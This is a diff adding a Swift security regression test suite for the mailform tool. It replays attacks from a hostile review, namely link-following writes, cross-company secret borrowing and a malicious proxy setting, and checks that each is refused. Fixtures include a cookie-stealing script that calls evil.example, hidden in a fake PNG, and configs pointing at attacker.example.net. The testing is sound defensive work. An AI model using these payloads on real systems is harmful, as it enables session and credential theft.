@@ -1,0 +1,459 @@
+import Foundation
+import GRDB
+import JSONSchema
+import MailformCore
+@testable import MailformStore
+import Testing
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// Pull requests hold nothing worth stealing: the attacks of the third
+/// hostile review (issue 20), replayed against the built binary on real
+/// files and real SQLite stores. Each test names the attack it replays; each
+/// succeeded on 9fc9f43.
+@Suite(.serialized)
+struct LeastPrivilegeTests {
+    typealias OutsideFolder = UntrustedPullRequestTests.OutsideFolder
+
+    static func sha256(_ path: String) throws -> String { Digest.sha256Hex([UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))) }
+
+    static func listing(_ root: URL) -> [String] {
+        ((try? FileManager.default.contentsOfDirectory(atPath: root.path)) ?? []).sorted()
+    }
+
+    /// An applied copy of the examples, with its key file.
+    static func applied() throws -> ExampleWorkspace {
+        let ws = try ExampleWorkspace()
+        try #require(try ws.run(["apply", "companies", "--auto-approve", "--no-probe"]).exitCode == 0)
+        return ws
+    }
+
+    // MARK: Attack 1 (critical): writes through a link the pull request planted
+
+    @Test func noCommandWritesThroughALinkOrAHardLink() throws {
+        let ws = try Self.applied()
+        let store = try Self.sha256(ws.storePath), key = try Self.sha256(ws.path("mailform.db.key"))
+        // plan.json → the store; the key file; a hard link to the store.
+        try FileManager.default.createSymbolicLink(atPath: ws.path("plan.json"), withDestinationPath: ws.storePath)
+        try FileManager.default.createSymbolicLink(atPath: ws.path("snap.json"), withDestinationPath: ws.path("mailform.db.key"))
+        try #require(link(ws.storePath, ws.path("hard.json")) == 0)
+        try FileManager.default.createDirectory(atPath: ws.path("real-out"), withIntermediateDirectories: true)
+        try FileManager.default.createSymbolicLink(atPath: ws.path("out"), withDestinationPath: ws.path("real-out"))
+        try FileManager.default.createSymbolicLink(atPath: ws.path("secrets.env"), withDestinationPath: ws.storePath)
+        let attempts: [([String], String)] = [
+            (["plan", "companies", "--out", "plan.json"], "plan.json: it is a symbolic link"),
+            (["plan", "companies", "--out", "hard.json"], "hard.json: it has another hard link"),
+            (["plan", "companies", "--change-set", "plan.json"], "plan.json: it is a symbolic link"),
+            (["snapshot", "--out", "snap.json"], "snap.json: it is a symbolic link"),
+            (["snapshot", "--out", "out/snapshot.json"], "its folder"),
+            (["export", "--out", "out"], "is a symbolic link"),
+            (["export", "--out", "exported", "--secrets-out", "secrets.env"], "secrets.env: it is a symbolic link"),
+        ]
+        for (arguments, why) in attempts {
+            let result = try ws.run(arguments)
+            #expect(result.exitCode == 1, "\(arguments): \(result.stdout)")
+            #expect(result.stderr.contains("never writes through a link") || result.stderr.contains("another hard link"), "\(arguments): \(result.stderr)")
+            #expect(result.stderr.contains(why), "\(arguments): \(result.stderr)")
+        }
+        #expect(try Self.sha256(ws.storePath) == store)
+        #expect(try Self.sha256(ws.path("mailform.db.key")) == key)
+        #expect(Self.listing(ws.root.appendingPathComponent("real-out")).isEmpty)
+        #expect(!FileManager.default.fileExists(atPath: ws.path("exported/companies")), "a refused export wrote files")
+        // A regular file is replaced, not written through: the store is safe even then.
+        try FileManager.default.removeItem(atPath: ws.path("plan.json"))
+        try ws.write("plan.json", "old")
+        #expect(try ws.run(["plan", "companies", "--out", "plan.json"]).exitCode == 0)
+        #expect(try ws.read("plan.json").contains("\"format_version\""))
+    }
+
+    // MARK: Attack 2 (high): a saved plan's fingerprints as an oracle
+
+    /// A pull request that changes acme and adds a company whose pool servers
+    /// read guess files: the saved plan must not let anyone compare acme's
+    /// password with a guess, even a right one.
+    @Test func savedPlanFingerprintsCompareNothingAcrossCompaniesOrFields() throws {
+        let ws = try Self.applied()
+        let acmePassword = try ws.read("secrets/acme-smtp.txt").trimmingCharacters(in: .newlines)
+        try ws.edit("companies/acme.yaml", "name: ACME Privacy", "name: ACME Privacy.")
+        try ws.write("secrets/guess-right.txt", acmePassword + "\n")
+        try ws.write("companies/guesser.yaml", """
+            company: guesser
+            sender:
+              email: a@guesser.example.com
+            provider: smtp
+            smtp:
+              host: smtp.guesser.example.com
+              port: 587
+              username: u
+              password: ${file:../secrets/guess-right.txt}
+              starttls: required
+            smtp_pools:
+              p:
+                use_for: [dsar]
+                servers:
+                  - {host: a.guesser.example.com, port: 587, username: u, password: "${file:../secrets/acme-smtp.txt}", starttls: required}
+
+            """)
+        let saved = try ws.run(["plan", "companies", "--out", "plan.json"])
+        try #require(saved.exitCode == 0, "\(saved.stderr)")
+        let plan = try JSONSerialization.jsonObject(with: Data(try ws.read("plan.json").utf8)) as? [String: Any]
+        var fingerprints: [String: String] = [:]
+        for change in plan?["changes"] as? [[String: Any]] ?? [] {
+            guard let desired = change["desired"] as? [String: Any] else { continue }
+            func walk(_ value: Any, _ path: String) {
+                if let object = value as? [String: Any] {
+                    if let fingerprint = object["fingerprint"] as? String { fingerprints["\(change["company"]!) \(path)"] = fingerprint }
+                    for (k, v) in object { walk(v, path + "." + k) }
+                } else if let array = value as? [Any] {
+                    for (i, v) in array.enumerated() { walk(v, path + "[\(i)]") }
+                }
+            }
+            walk(desired, "")
+        }
+        // acme's password, the right guess and the same file in another field: three values, one secret.
+        let acme = fingerprints.filter { $0.key.hasPrefix("acme ") && $0.key.contains("smtp.") && !$0.key.contains("pools") }
+        let guesses = fingerprints.filter { $0.key.hasPrefix("guesser ") }
+        try #require(!acme.isEmpty && guesses.count >= 2, "\(fingerprints.keys.sorted())")
+        for (_, mine) in acme { for (_, guess) in guesses { #expect(mine != guess) } }
+        #expect(Set(guesses.values).count == guesses.count, "one value in two fields fingerprints alike")
+        #expect(fingerprints.values.allSatisfy { $0.hasPrefix("v2:") })
+        // The plan still applies exactly, and a changed secret still stops it.
+        let apply = try ws.run(["apply", "plan.json", "--no-probe"])
+        #expect(apply.exitCode == 0, "\(apply.stdout)\(apply.stderr)")
+    }
+
+    // MARK: Attack 3 (high): borrowed secrets
+
+    @Test func defaultSecretNamesAreInjectiveWhateverTheIDs() throws {
+        let ws = try ExampleWorkspace(copying: [])
+        try ws.write("mailform.yaml", "mode: on-premise\n")
+        func company(_ id: String, _ reference: String) -> String {
+            "company: \(id)\nsender:\n  email: a@\(id).example.com\nprovider: smtp\nsmtp:\n  host: smtp.example.com\n  port: 25\n  username: u\n  password: \(reference)\n"
+        }
+        let env = ["MAILFORM_ACME__SMTP_PASSWORD": "acme-pw-1", "MAILFORM_ACME_SMTP__PASSWORD": "acme-smtp-pw-2",
+                   "MAILFORM_A__X": "a-3", "MAILFORM_A_B__X": "a-b-4", "MAILFORM__RELAY__X": "relay-5", "MAILFORM_ACME_DSAR__X": "dsar-6"]
+        // Each owner reads its own; the newcomer `acme-smtp` does not make acme's reference an error.
+        try ws.write("companies/acme.yaml", company("acme", "${env:MAILFORM_ACME__SMTP_PASSWORD}"))
+        try ws.write("companies/acme-smtp.yaml", company("acme-smtp", "${env:MAILFORM_ACME_SMTP__PASSWORD}"))
+        try ws.write("companies/a.yaml", company("a", "${env:MAILFORM_A__X}"))
+        try ws.write("companies/a-b.yaml", company("a-b", "${env:MAILFORM_A_B__X}"))
+        let own = try ws.run(["validate", "companies"], environment: env)
+        #expect(own.exitCode == 0, "\(own.stdout)")
+        // Every borrowing, in either direction, is a located fence error.
+        let borrowings = [("acme", "${env:MAILFORM_ACME_SMTP__PASSWORD}"), ("acme-smtp", "${env:MAILFORM_ACME__SMTP_PASSWORD}"),
+                          ("a", "${env:MAILFORM_A_B__X}"), ("a-b", "${env:MAILFORM_A__X}"), ("a", "${env:MAILFORM__RELAY__X}"),
+                          ("acme", "${env:MAILFORM_ACME_DSAR__X}")]
+        for (id, reference) in borrowings {
+            try ws.write("companies/\(id).yaml", company(id, reference))
+            let result = try ws.run(["validate", "companies"], environment: env)
+            #expect(result.exitCode == 1, "\(id) read \(reference)")
+            #expect(result.stdout.contains("companies/\(id).yaml:9:13: error: secret reference \(reference) reads a variable outside the secrets.env fence"),
+                    "\(result.stdout)")
+            try ws.write("companies/\(id).yaml", company(id, "${env:MAILFORM_\(SecretOwner.envForm(id))__\(id == "acme" || id == "acme-smtp" ? (id == "acme" ? "SMTP_PASSWORD" : "PASSWORD") : "X")}"))
+        }
+        // A profile named like another's prefix (acme_dsar) reads nothing by default.
+        try ws.write("profiles/acme_dsar.yaml", "smtp:\n  password: ${env:MAILFORM_ACME_DSAR__X}\n")
+        try ws.write("companies/acme.yaml", "company: acme\nextends: acme_dsar\nsender:\n  email: a@acme.example.com\nprovider: smtp\nsmtp:\n  host: smtp.example.com\n  port: 25\n  username: u\n")
+        let profile = try ws.run(["validate", "companies"], environment: env)
+        #expect(profile.exitCode == 1)
+        #expect(profile.stdout.contains("profiles/acme_dsar.yaml:2:13: error: secret reference ${env:MAILFORM_ACME_DSAR__X} reads a variable outside the secrets.env fence"), "\(profile.stdout)")
+        #expect(!(own.stdout + profile.stdout).contains("pw-"))
+    }
+
+    @Test func aSecretsDirFileIsReadOnlyByItsOwnCompany() throws {
+        let dir = try OutsideFolder()
+        try FileManager.default.createDirectory(atPath: dir.path("acme"), withIntermediateDirectories: true)
+        try dir.write("acme/smtp", "acme-dir-secret\n")
+        let ws = try ExampleWorkspace(copying: [])
+        try ws.write("mailform.yaml", "mode: on-premise\nsecrets:\n  dirs: [\(dir.root.path)]\n")
+        func company(_ id: String) -> String {
+            "company: \(id)\nsender:\n  email: a@\(id).example.com\nprovider: smtp\nsmtp:\n  host: smtp.example.com\n  port: 25\n  username: u\n  password: ${file:\(dir.path("acme/smtp"))}\n"
+        }
+        try ws.write("companies/acme.yaml", company("acme"))
+        #expect(try ws.run(["validate", "companies"]).exitCode == 0)
+        try ws.write("companies/evil.yaml", company("evil"))
+        let result = try ws.run(["validate", "companies"])
+        #expect(result.exitCode == 1)
+        #expect(result.stdout.contains("companies/evil.yaml:9:13: error: secret file '\(dir.path("acme/smtp"))' is in a secrets.dirs folder, outside this file's own subfolder there [secret-file-fence]"), "\(result.stdout)")
+        #expect(result.stdout.contains("evil/…"))
+        // dirs_reach: all is the wider fence: allowed, and a warning says so.
+        try ws.write("mailform.yaml", "mode: on-premise\nsecrets:\n  dirs: [\(dir.root.path)]\n  dirs_reach: all\n")
+        let wide = try ws.run(["validate", "companies"])
+        #expect(wide.exitCode == 0)
+        #expect(wide.stdout.contains("[secret-fence-wide]"), "\(wide.stdout)")
+        #expect(!(result.stdout + wide.stdout).contains("acme-dir-secret"))
+    }
+
+    /// With a wide fence, a reference the store records for acme is refused
+    /// for any other company, at the reference, naming the owner.
+    @Test func aReferenceTheStoreRecordsForACompanyIsRefusedForAnother() throws {
+        let ws = try ExampleWorkspace(copying: [])
+        try ws.write("mailform.yaml", "mode: on-premise\nsecrets:\n  env: [\"MAILFORM_*\"]\n")
+        func company(_ id: String, host: String) -> String {
+            "company: \(id)\nsender:\n  email: a@\(id).example.com\nprovider: smtp\nsmtp:\n  host: \(host)\n  port: 25\n  username: u\n  password: ${env:MAILFORM_SHARED}\n"
+        }
+        let env = ["MAILFORM_SHARED": "acme-only-secret-Jq3"]
+        try ws.write("companies/acme.yaml", company("acme", host: "smtp.acme.example.com"))
+        try #require(try ws.run(["apply", "companies", "--auto-approve", "--no-probe"], environment: env).exitCode == 0)
+        try ws.write("companies/evil.yaml", company("evil", host: "attacker.example.net"))
+        for arguments in [["plan", "companies"], ["apply", "companies", "--auto-approve", "--no-probe"]] {
+            let result = try ws.run(arguments, environment: env)
+            #expect(result.exitCode == 1)
+            #expect(result.stderr.contains("companies/evil.yaml:9:13: error: secret reference ${env:MAILFORM_SHARED} is recorded in the store for company acme; one company may not use another company's secret [secret-owner]"),
+                    "\(result.stderr)")
+            #expect(!(result.stdout + result.stderr).contains(env["MAILFORM_SHARED"]!))
+        }
+        #expect(try ws.companyCount() == 1)
+        // Against a snapshot too: the pull request's plan refuses it.
+        #expect(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
+        let snapshot = try ws.run(["plan", "companies", "--snapshot", "snapshot.json"])
+        #expect(snapshot.exitCode == 1)
+        #expect(snapshot.stderr.contains("is recorded in the store for company acme"), "\(snapshot.stderr)")
+    }
+
+    // MARK: Attack 4 (high): unbounded work
+
+    @Test func hugeNamesAndSilentEndpointsAreBounded() throws {
+        let ws = try ExampleWorkspace(copying: [])
+        try ws.write("mailform.yaml", "mode: on-premise\nprobe:\n  timeout: 20s\n  deadline: 1500ms\n")
+        try ws.write("profiles/relay.yaml", "smtp:\n  port: 25\n")
+        // A 300 KB profile name: an error about its length, no suggestion computed.
+        try ws.write("companies/huge.yaml", "company: huge\nextends: \(String(repeating: "r", count: 300_000))\nsender:\n  email: a@huge.example.com\nprovider: platform\n")
+        let huge = try ws.run(["validate", "companies"])
+        #expect(huge.exitCode == 1)
+        #expect(huge.stdout.contains("companies/huge.yaml:2:10: error: profile name is 300000 bytes long, over the limit of 64"), "\(huge.stdout.prefix(500))")
+        #expect(huge.stdout.utf8.count < 2_000)
+        #expect(DidYouMean.closest(to: String(repeating: "relay", count: 20), among: ["relay"]) == nil)
+        try ws.remove("companies/huge.yaml")
+        // Endpoints that never answer, each with a 20 s timeout: the run's deadline ends them all.
+        let silent = try RecordingListener(banner: nil)
+        for id in ["s1", "s2", "s3"] {
+            try ws.write("companies/\(id).yaml", "company: \(id)\nsender:\n  email: a@\(id).example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: \(silent.port)\n  starttls: off\n")
+        }
+        let probe = try ws.run(["probe", "companies", "--format", "json"])
+        #expect(probe.exitCode == 3, "\(probe.stdout)\(probe.stderr)")
+        let report = try JSONSerialization.jsonObject(with: Data(probe.stdout.utf8)) as? [String: Any]
+        let results = report?["results"] as? [[String: Any]] ?? []
+        #expect(results.count == 3)
+        for result in results {
+            #expect((result["failure"] as? [String: Any])?["kind"] as? String == "deadline", "\(result)")
+        }
+        #expect(probe.stdout.contains("not probed: deadline reached"))
+        silent.stop()
+    }
+
+    // MARK: Attack 5 (medium-high): trusted settings changed silently
+
+    @Test func aPullRequestsTrustedSettingChangesAreShownAtTheTop() throws {
+        let ws = try Self.applied()
+        let base = try OutsideFolder()
+        try base.write("mailform.yaml", try ws.read("mailform.yaml"))
+        try ws.write("mailform.yaml", (try ws.read("mailform.yaml")).replacingOccurrences(of: "  concurrency: 64\n", with: "  concurrency: 64\n  proxy: socks5h://attacker.example.net:1080\n"))
+        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
+        let args = ["plan", "companies", "--snapshot", "snapshot.json", "--trusted-workspace", base.path("mailform.yaml")]
+        let markdown = try ws.run(args + ["--format", "markdown"])
+        #expect(markdown.exitCode == 0, "\(markdown.stderr)")
+        #expect(markdown.stdout.hasPrefix("### mailform plan\n\n> [!WARNING]\n> **This pull request changes trusted settings** in its `mailform.yaml`: `probe.proxy`"), "\(markdown.stdout)")
+        #expect(markdown.stdout.contains("No changes. The store matches the files."))
+        let json = try ws.run(args + ["--format", "json"])
+        let object = try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any]
+        #expect(object?["trusted_settings_changed"] as? [String] == ["probe.proxy"])
+        let text = try ws.run(args)
+        #expect(text.stdout.hasPrefix("This pull request changes trusted settings of mailform.yaml"), "\(text.stdout)")
+        #expect(!text.stdout.contains("attacker.example.net"), "the plan shows which setting, not the pull request's value")
+    }
+
+    // MARK: Attack 6 (medium): the comment that did not fit
+
+    @Test func theWholeCommentFitsOneCommentAndSaysWhatItCut() throws {
+        let ws = try ExampleWorkspace(copying: [])
+        try ws.write("mailform.yaml", "mode: on-premise\nprobe:\n  timeout: 2s\n  deadline: 60s\n")
+        // 1,500 companies whose endpoints refuse connections: a long probe section.
+        let closed = try RecordingListener()
+        let port = closed.port
+        closed.stop()
+        for i in 0..<1_500 {
+            try ws.write("companies/c\(i).yaml", "company: c\(i)\nname: Company number \(i) with a long display name\nsender:\n  email: a@c\(i).example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: \(port)\n  starttls: off\n")
+        }
+        try #require(try ws.run(["snapshot", "--empty", "--out", "snapshot.json"]).exitCode == 0)
+        let result = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--probe", "--format", "markdown"])
+        #expect(result.exitCode == 3, "\(result.stderr)")
+        #expect(result.stdout.count <= PlanRenderer.commentLimit, "\(result.stdout.count) characters")
+        #expect(result.stdout.contains("#### Probe of the changed endpoints"))
+        #expect(result.stdout.contains("cut to fit one comment"))
+        #expect(result.stdout.contains("Change set: `cs1:"), "the change set is never cut")
+    }
+
+    // MARK: Attack 7 (medium): an HTML page named acme.png
+
+    @Test func anHTMLPageNamedLikeAnImageIsRefused() throws {
+        let ws = try ExampleWorkspace()
+        try ws.write("logos/acme.png", "<svg><foreignObject><html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html></foreignObject></svg>")
+        let result = try ws.run(["validate", "companies"])
+        #expect(result.exitCode == 1)
+        #expect(result.stdout.contains("companies/acme.yaml:7:9: error: logo file is not a usable PNG, JPEG or SVG image: the SVG holds a <foreignobject> element, which no logo may"),
+                "\(result.stdout)")
+    }
+
+    // MARK: Attack 8 (low-medium): read-only commands, keys and old plans
+
+    @Test func readOnlyCommandsNeverChangeTheStoreOrCreateAKey() throws {
+        let ws = try Self.applied()
+        let before = try Self.sha256(ws.storePath), files = Self.listing(ws.root)
+        for arguments in [["plan", "companies"], ["plan", "companies", "--format", "json"], ["snapshot", "--out", "s.json"],
+                          ["history"], ["export", "--out", "exported"], ["probe", "companies/latam/hooli.yaml"]] {
+            let result = try ws.run(arguments)
+            #expect(result.exitCode == 0, "\(arguments): \(result.stderr)")
+        }
+        #expect(try Self.sha256(ws.storePath) == before)
+        #expect(Self.listing(ws.root).filter { !["s.json", "exported"].contains($0) } == files)
+        // An older store is refused by plan, unchanged, and migrated by apply.
+        let older = try ExampleWorkspace()
+        let pool = try DatabasePool(path: older.storePath)
+        try Migrations.migrator.migrate(pool, upTo: "v3")
+        try pool.close()
+        let old = try Self.sha256(older.storePath)
+        let refused = try older.run(["plan", "companies"])
+        #expect(refused.exitCode == 1)
+        #expect(refused.stderr.contains("was made by an older version of mailform; run apply to migrate it"), "\(refused.stderr)")
+        #expect(try Self.sha256(older.storePath) == old)
+        // plan --out creates no key file: without a key it says how to get one.
+        let fresh = try ExampleWorkspace()
+        let out = try fresh.run(["plan", "companies", "--out", "plan.json"])
+        #expect(out.exitCode == 1)
+        #expect(out.stderr.contains("plan --out signs the plan with the store key, and there is none yet"), "\(out.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: fresh.path("mailform.db.key")) && !FileManager.default.fileExists(atPath: fresh.path("plan.json")))
+    }
+
+    /// A plan saved before the store existed names the store it may create:
+    /// applied, it creates exactly that store; to another store (same key) it never applies.
+    @Test func aPlanMadeBeforeTheStoreExistedAppliesToNoOtherStore() throws {
+        let ws = try ExampleWorkspace().usingStoreKey()
+        try #require(try ws.run(["plan", "companies", "--out", "plan.json"]).exitCode == 0)
+        let plan = try JSONSerialization.jsonObject(with: Data(try ws.read("plan.json").utf8)) as? [String: Any]
+        let named = try #require(plan?["store_id"] as? String)
+        #expect(plan?["creates_store"] as? Bool == true)
+        // Another store with the same key exists by then: refused.
+        let other = try ExampleWorkspace().usingStoreKey()
+        try FileManager.default.copyItem(atPath: ws.path("plan.json"), toPath: other.path("plan.json"))
+        try #require(try other.run(["apply", "companies/latam", "--auto-approve", "--no-probe"]).exitCode == 0)
+        let refused = try other.run(["apply", "plan.json", "--no-probe"])
+        #expect(refused.exitCode == 1)
+        #expect(refused.stderr.contains("stale plan: the plan was made against another store (it was made before any store existed, and a store exists here now)"), "\(refused.stderr)")
+        // Where there is no store, it creates the one it names.
+        let applied = try ws.run(["apply", "plan.json", "--no-probe"])
+        #expect(applied.exitCode == 0, "\(applied.stderr)")
+        let id = try ws.database().read { db in try String.fetchOne(db, sql: "SELECT value FROM store_meta WHERE key = 'store_id'") }
+        #expect(id == named)
+    }
+
+    @Test func aHardLinkToTheKeyIsNotReadAsASecret() throws {
+        let ws = try Self.applied()
+        try #require(link(ws.path("mailform.db.key"), ws.path("secrets/innocent.txt")) == 0)
+        try ws.edit("companies/acme.yaml", "${file:../secrets/acme-smtp.txt}", "${file:../secrets/innocent.txt}")
+        let result = try ws.run(["validate", "companies"])
+        #expect(result.exitCode == 1)
+        #expect(result.stdout.contains("secret file '../secrets/innocent.txt' is the store or its key, which no reference may read"), "\(result.stdout)")
+    }
+
+    @Test func theProbeGreetsWithANeutralName() throws {
+        let listener = try RecordingListener()
+        let ws = try ExampleWorkspace(copying: [])
+        try ws.write("mailform.yaml", "mode: on-premise\nprobe:\n  timeout: 3s\n")
+        try ws.write("companies/a.yaml", "company: a\nsender:\n  email: a@a.example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: \(listener.port)\n  starttls: off\n")
+        _ = try ws.run(["probe", "companies"])
+        var name = [CChar](repeating: 0, count: 256)
+        gethostname(&name, 255)
+        let host = String(cString: name)
+        #expect(listener.received.contains("EHLO mailform.invalid\r\n"), "\(listener.received)")
+        #expect(host.isEmpty || !listener.received.contains(host))
+        listener.stop()
+    }
+
+    // MARK: The least-privilege flow: snapshots and reviewed change sets
+
+    @Test func aPullRequestPlansAgainstASnapshotWithNothingOfThePlatform() throws {
+        let ws = try Self.applied()
+        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
+        let snapshot = try ws.read("snapshot.json")
+        for secret in ["acme-smtp.txt", "globex-smtp.txt", "initech-mailgun.txt"] {
+            #expect(!snapshot.contains(try ws.read("secrets/\(secret)").trimmingCharacters(in: .newlines)))
+        }
+        #expect(!snapshot.contains("fingerprint") && !snapshot.contains("ciphertext"))
+        // The pull request's job: no store, no key, no variables (the store path names nothing).
+        try FileManager.default.moveItem(atPath: ws.storePath, toPath: ws.path("elsewhere.db"))
+        try FileManager.default.moveItem(atPath: ws.path("mailform.db.key"), toPath: ws.path("elsewhere.key"))
+        try ws.edit("companies/acme.yaml", "name: ACME Privacy", "name: ACME Privacidade")
+        try ws.edit("companies/globex.yaml", "${file:../secrets/globex-smtp.txt}", "${file:../secrets/acme-smtp.txt}")
+        try FileManager.default.removeItem(atPath: ws.path("secrets/acme-smtp.txt"))  // no secret value is read
+        let plan = try ws.run(["plan", "companies", "--snapshot", "snapshot.json"])
+        #expect(plan.exitCode == 0, "\(plan.stderr)")
+        #expect(plan.stdout.contains("~ sender.name: \"ACME Privacy\" -> \"ACME Privacidade\""))
+        #expect(plan.stdout.contains("~ smtp.password: (sensitive; reference ${file:secrets/globex-smtp.txt} -> ${file:secrets/acme-smtp.txt})"), "\(plan.stdout)")
+        #expect(plan.stdout.contains("no secret read"))
+        #expect(!FileManager.default.fileExists(atPath: ws.storePath) && !FileManager.default.fileExists(atPath: ws.path("mailform.db.key")))
+        // Refusals: a changed snapshot, a saved plan given as one, a missing one.
+        try ws.write("edited.json", snapshot.replacingOccurrences(of: "\"ACME Privacy\"", with: "\"ACME Privacidade\""))
+        let edited = try ws.run(["plan", "companies", "--snapshot", "edited.json"])
+        #expect(edited.exitCode == 1)
+        #expect(edited.stderr.contains("is not a usable mailform snapshot: it was changed after it was written"), "\(edited.stderr)")
+        try ws.write("wrong.json", "{\"format_version\": 2, \"changes\": []}")
+        let wrong = try ws.run(["plan", "companies", "--snapshot", "wrong.json"])
+        #expect(wrong.stderr.contains("its format is not mailform-snapshot"), "\(wrong.stderr)")
+        try ws.write("future.json", snapshot.replacingOccurrences(of: "\"version\":1", with: "\"version\":2"))
+        #expect(try ws.run(["plan", "companies", "--snapshot", "future.json"]).stderr.contains("it is not of version 1"))
+        let usage = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--out", "p.json"])
+        #expect(usage.exitCode == 64)
+    }
+
+    @Test func applyWritesOnlyTheReviewedChangeSet() throws {
+        let ws = try Self.applied()
+        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
+        try ws.edit("companies/acme.yaml", "name: ACME Privacy", "name: ACME Reviewed")
+        let reviewed = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--change-set", "cs.txt"])
+        try #require(reviewed.exitCode == 0)
+        let digest = try ws.read("cs.txt").trimmingCharacters(in: .whitespacesAndNewlines)
+        #expect(reviewed.stdout.contains("Change set: \(digest)"))
+        // The trusted side's own plan names the same change set.
+        #expect(try ws.run(["plan", "companies"]).stdout.contains("Change set: \(digest)"))
+        // Something else merged after the review: nothing is written, the difference is shown.
+        try ws.edit("companies/initech.yaml", "region: us", "region: eu")
+        let before = try ws.storeDump()
+        let refused = try ws.run(["apply", "companies", "--auto-approve", "--no-probe", "--reviewed", digest])
+        #expect(refused.exitCode == 1)
+        #expect(refused.stderr.contains("the change set to apply is not the reviewed one; nothing was written"))
+        #expect(refused.stderr.contains("~ initech (company revision 1): mailgun.region"), "\(refused.stderr)")
+        #expect(try ws.storeDump() == before)
+        try ws.edit("companies/initech.yaml", "region: eu", "region: us")
+        let applied = try ws.run(["apply", "companies", "--auto-approve", "--no-probe", "--reviewed", digest])
+        #expect(applied.exitCode == 0, "\(applied.stderr)")
+        #expect(try ws.database().read { db in try String.fetchOne(db, sql: "SELECT sender_name FROM companies WHERE id = 'acme'") } == "ACME Reviewed")
+        #expect(try ws.run(["apply", "companies", "--auto-approve", "--reviewed", "cs1:nothex"]).exitCode == 64)
+    }
+
+    /// A reference renamed to another that holds the same value: a change a
+    /// snapshot's plan shows, that the store's plan names in its change set,
+    /// and that apply records without a new company revision.
+    @Test func aRenamedReferenceIsReviewedAndRecorded() throws {
+        let ws = try Self.applied()
+        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
+        try ws.write("secrets/stark-smtp-2.txt", try ws.read("secrets/stark-smtp.txt"))
+        try ws.edit("companies/stark.yaml", "stark-smtp.txt", "stark-smtp-2.txt")
+        let pr = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--change-set", "cs.txt"])
+        #expect(pr.stdout.contains("~ smtp.password: (sensitive; reference ${file:secrets/stark-smtp.txt} -> ${file:secrets/stark-smtp-2.txt})"), "\(pr.stdout)")
+        let digest = try ws.read("cs.txt").trimmingCharacters(in: .whitespacesAndNewlines)
+        let live = try ws.run(["plan", "companies"])
+        #expect(live.stdout.contains("References apply records (the values stay the same):\n  stark smtp.password: reference ${file:secrets/stark-smtp.txt} -> ${file:secrets/stark-smtp-2.txt}"), "\(live.stdout)")
+        #expect(live.stdout.contains("Change set: \(digest)"))
+        let applied = try ws.run(["apply", "companies", "--auto-approve", "--no-probe", "--reviewed", digest])
+        #expect(applied.exitCode == 0, "\(applied.stderr)")
+        let row = try ws.database().read { db in
+            try Row.fetchOne(db, sql: "SELECT s.reference, c.revision FROM secrets s JOIN companies c ON c.id = s.company_id WHERE s.company_id = 'stark' AND s.path = 'smtp.password'")
+        }
+        #expect(row?["reference"] as String? == "${file:secrets/stark-smtp-2.txt}")
+        #expect(row?["revision"] as Int? == 1)
+        #expect(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
+        #expect(try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--detailed-exitcode"]).exitCode == 0)
+    }
+}
